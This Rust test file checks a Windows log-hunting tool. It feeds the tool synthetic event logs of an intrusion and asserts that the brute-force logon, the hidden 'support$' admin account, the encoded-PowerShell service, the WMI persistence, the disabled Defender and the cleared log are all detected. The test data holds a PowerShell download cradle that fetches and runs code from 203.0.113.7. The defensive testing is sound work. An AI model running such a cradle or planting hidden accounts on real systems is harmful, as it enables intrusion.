//! The built-in Windows checks on a small intrusion written for this test: RDP brute force that
//! succeeds, a hidden admin account, a malicious service, a cleared log, a download cradle, WMI
//! persistence and Defender switched off — and the storyline told from them.

use firewarden_hunt::report::{ReportContext, build};
use firewarden_hunt::sigma::RuleSet;
use firewarden_hunt::{HuntOptions, builtin, hunt, reader};
use firewarden_model::{Severity, Timestamp};
use serde_json::{Value, json};
use std::io::Write;

fn event(channel: &str, id: u32, time: &str, record: u64, data: Value) -> Value {
    json!({"Event": {"System": {
        "Provider": {"#attributes": {"Name": "Test"}},
        "EventID": id,
        "TimeCreated": {"#attributes": {"SystemTime": time}},
        "EventRecordID": record,
        "Channel": channel,
        "Computer": "WEB01"},
        "EventData": data}})
}

/// The intrusion: 203.0.113.7 guesses RDP passwords, gets in as `admin`, adds `support$` to
/// Administrators, installs a service, clears the Security log. 10.0.0.9 only mistypes thrice.
pub fn intrusion() -> Vec<Value> {
    let mut v = Vec::new();
    let mut rec = 0;
    let mut next = || {
        rec += 1;
        rec
    };
    for i in 0..12 {
        v.push(event(
            "Security",
            4625,
            &format!("2026-11-20T03:{:02}:{:02}Z", 10 + i / 4, (i % 4) * 15),
            next(),
            json!({"TargetUserName": if i % 2 == 0 {"administrator"} else {"admin"},
                   "IpAddress": "203.0.113.7", "LogonType": 10}),
        ));
    }
    for i in 0..3 {
        v.push(event(
            "Security",
            4625,
            &format!("2026-11-20T08:00:0{i}Z"),
            next(),
            json!({"TargetUserName": "bob", "IpAddress": "10.0.0.9", "LogonType": 3}),
        ));
    }
    v.push(event(
        "Security",
        4624,
        "2026-11-20T03:14:00Z",
        next(),
        json!({"TargetUserName": "admin", "IpAddress": "203.0.113.7", "LogonType": 10}),
    ));
    v.push(event(
        "Security",
        4720,
        "2026-11-20T03:20:00Z",
        next(),
        json!({"TargetUserName": "support$", "SubjectUserName": "admin", "SubjectDomainName": "WEB01"}),
    ));
    v.push(event(
        "Security",
        4732,
        "2026-11-20T03:21:00Z",
        next(),
        json!({"TargetUserName": "Administrators", "MemberName": "-", "MemberSid": "S-1-5-21-1-1001",
               "SubjectUserName": "admin"}),
    ));
    v.push(event(
        "System",
        7045,
        "2026-11-20T03:25:00Z",
        next(),
        json!({"ServiceName": "updater", "ImagePath": "cmd.exe /c powershell -enc SQBFAFgA"}),
    ));
    v.push(event(
        "Microsoft-Windows-PowerShell/Operational",
        4104,
        "2026-11-20T03:26:00Z",
        next(),
        json!({"ScriptBlockText": "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a')"}),
    ));
    v.push(event(
        "Microsoft-Windows-WMI-Activity/Operational",
        5861,
        "2026-11-20T03:27:00Z",
        next(),
        json!({"Consumer": "CommandLineEventConsumer=\"upd\"", "PossibleCause": "Binding"}),
    ));
    v.push(event(
        "Microsoft-Windows-Windows Defender/Operational",
        5001,
        "2026-11-20T03:28:00Z",
        next(),
        json!({}),
    ));
    v.push(event(
        "Security",
        1102,
        "2026-11-20T03:30:00Z",
        next(),
        json!({}),
    ));
    v
}

fn write_jsonl(events: &[Value]) -> tempfile::NamedTempFile {
    let mut f = tempfile::Builder::new()
        .suffix(".jsonl")
        .tempfile()
        .unwrap();
    for e in events {
        writeln!(f, "{e}").unwrap();
    }
    f
}

#[test]
fn intrusion_is_told_from_first_guess_to_cleared_log() {
    let file = write_jsonl(&intrusion());
    let rules = RuleSet::default();
    let opts = HuntOptions {
        builtin: true,
        ..HuntOptions::default()
    };
    let (files, _) = reader::log_files(&[file.path().to_path_buf()]);
    let out = hunt(&rules, files, &opts, &|_, _| {});
    assert_eq!(out.files[0].records, 23);
    let hits = builtin::run(&out);
    let by = |id: &str| hits.iter().filter(|h| h.check.id == id).collect::<Vec<_>>();

    let brute = by("windows.logon.bruteforce");
    assert_eq!(brute.len(), 1, "the 3 typos from 10.0.0.9 are not a burst");
    assert_eq!(brute[0].level, Severity::Critical);
    assert_eq!(brute[0].ip.as_deref(), Some("203.0.113.7"));
    assert!(
        brute[0].message.contains("logged on as admin"),
        "{}",
        brute[0].message
    );

    let created = by("windows.accounts.created");
    assert_eq!(
        created[0].level,
        Severity::Critical,
        "support$ hides from net user"
    );
    assert_eq!(by("windows.accounts.admin_group").len(), 1);
    let svc = by("windows.persistence.service");
    assert_eq!(svc[0].level, Severity::High);
    assert!(svc[0].message.contains("-enc"));
    assert_eq!(by("windows.logs.cleared").len(), 1);
    assert_eq!(by("windows.powershell.scriptblock").len(), 1);
    assert_eq!(by("windows.persistence.wmi").len(), 1);
    assert_eq!(by("windows.defense.defender").len(), 1);

    let report = build(
        ReportContext {
            tool: "firewarden test".into(),
            location: "x".into(),
            started: Timestamp(0),
            min_level: Severity::Low,
            load_millis: 0,
            hunt_millis: 0,
            warnings: vec![],
            rules: &rules,
        },
        out,
        hits,
    );
    let s = &report.storyline;
    assert_eq!(s.attacker_ips, vec!["203.0.113.7".to_owned()]);
    let entry = s.entry_point.as_deref().unwrap();
    assert!(entry.contains("2026-11-20T03:14:00"), "{entry}");
    assert!(
        s.persistence.iter().any(|p| p == "service updater"),
        "{:?}",
        s.persistence
    );
    assert!(
        s.persistence.iter().any(|p| p.contains("support$")),
        "{:?}",
        s.persistence
    );
    assert_eq!(
        s.first_activity.unwrap().to_string(),
        "2026-11-20T03:14:00Z",
        "first high-or-worse event: the logon after the burst"
    );
    assert_eq!(s.last_activity.unwrap().to_string(), "2026-11-20T03:30:00Z");
    // Timeline is in time order, and each detection points at its finding.
    let times: Vec<&str> = report
        .detections
        .iter()
        .map(|d| d.datetime.as_str())
        .collect();
    let mut sorted = times.clone();
    sorted.sort();
    assert_eq!(times, sorted);
    for d in &report.detections {
        assert!(report.findings.iter().any(|f| f.id == d.finding));
    }
}

#[test]
fn time_range_limits_events() {
    let file = write_jsonl(&intrusion());
    let opts = HuntOptions {
        builtin: true,
        from_micros: Some(Timestamp::parse("2026-11-20T03:20:00Z").unwrap().0 * 1_000_000),
        to_micros: Some(Timestamp::parse("2026-11-20T03:26:00Z").unwrap().0 * 1_000_000),
        ..HuntOptions::default()
    };
    let out = hunt(
        &RuleSet::default(),
        vec![file.path().to_path_buf()],
        &opts,
        &|_, _| {},
    );
    assert_eq!(out.files[0].in_range, 4);
    let hits = builtin::run(&out);
    assert!(
        hits.iter()
            .all(|h| h.check.id != "windows.logon.bruteforce")
    );
}
